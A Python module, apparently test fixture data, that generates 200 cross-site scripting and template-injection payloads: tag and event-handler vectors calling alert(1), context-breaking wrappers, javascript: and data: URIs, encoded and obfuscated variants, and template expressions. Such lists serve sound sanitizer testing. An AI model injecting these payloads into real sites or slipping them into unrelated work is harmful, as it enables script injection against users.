"""Two hundred texts that would run code in a page that takes text for markup, a link, a style or a template."""

from __future__ import annotations

_CALL = "alert(1)"
_TAGS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<iframe src=javascript:{0}></iframe>",
    "<body onload={0}>", "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<a href=javascript:{0}>x</a>",
    "<video><source onerror={0}></video>", "<math><mtext><script>{0}</script>", "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>", "<base href=javascript:{0}//>", "<form action=javascript:{0}><input type=submit>",
    "<style>@import 'javascript:{0}'</style>", "<link rel=stylesheet href=javascript:{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<marquee onstart={0}>x</marquee>",
    "<template><script>{0}</script></template>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
)  # fmt: skip
_WRAPS = ("{}", '">{}', "'>{}", "</td>{}", "-->{}", "</script>{}", "</title>{}", "</textarea>{}", "]]>{}")
_OTHER = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", "#{alert(1)}",
    "<%= alert(1) %>", "{{7*7}}", "';alert(1);//", '";alert(1);//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)",
    "expression(alert(1))", "url(javascript:alert(1))", "__proto__",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each another."""
    found = [wrap.format(tag.format(_CALL)) for wrap in _WRAPS for tag in _TAGS]
    return [*found, *_OTHER]


def few() -> list[str]:
    """Some of them: every tag, every way to wrap one, and all others."""
    wrapped = [_WRAPS[number % len(_WRAPS)].format(tag.format(_CALL)) for number, tag in enumerate(_TAGS)]
    return [*wrapped, *_OTHER]
